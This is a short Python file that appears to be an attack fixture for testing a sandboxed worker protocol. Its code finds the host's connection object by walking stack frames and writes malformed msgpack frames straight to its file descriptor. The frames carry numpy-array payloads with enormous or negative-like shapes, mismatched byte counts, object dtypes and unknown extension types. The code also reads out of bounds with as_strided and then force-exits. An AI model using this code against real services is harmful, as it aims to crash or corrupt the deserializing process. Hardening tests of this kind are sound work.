# /// attack
# tries = "Writes arrays with negative and enormous shapes, bytes that do not fit, and extension types nobody has; reads beyond its memory."
# gain = "harm"
# plain = "harm"
# ///
import struct
import sys

import numpy as np

def connection():
    frame = sys._getframe()
    while frame is not None:
        me = frame.f_locals.get("self")
        if hasattr(me, "session") and hasattr(me, "fd"):
            return me
        frame = frame.f_back
    return None


def send(kind, payload):
    me = connection()
    if me is None:
        return np.lib.stride_tricks.as_strided(np.zeros(1), (1 << 20,), (1 << 28,)).sum()
    codec = type(me).write.__globals__["wire"].msgpack
    reply = [me._number, "value", codec.ExtType(kind, payload), "", []]
    data = codec.packb(reply)
    me.write = None
    import os

    os.write(me.fd, struct.pack(">I", len(data)) + data)
    os._exit(0)


def array(code, *shape, data=b""):
    return bytes((len(code), len(shape))) + code + struct.pack(f">{len(shape)}Q", *shape) + data


def double(x):
    if x.ndim == 2:
        return send(4, array(b"f8", 2**64 - 1, 2**64 - 1, data=bytes(8)))
    return send(4, array(b"f8", 0, 2**62, 2**62)) if len(x) == 3 else send(4, array(b"O8", 1, data=bytes(8)))


class Box:
    tries = [(4, array(b"f8", 3, data=bytes(23))), (5, array(b"f8", 1, data=bytes(8))), (4, b"\x03\x09f8")]

    def put(self, x):
        send(*Box.tries[int(abs(x[0]) * 1e6) % 3])

    def take(self):
        return send(127, b"")


def apply(f, x):
    if f(x) > 0:
        return f(np.lib.stride_tricks.as_strided(np.zeros(1), (1 << 20,), (1 << 28,)))
    return send(0, b"\x00" * 12)
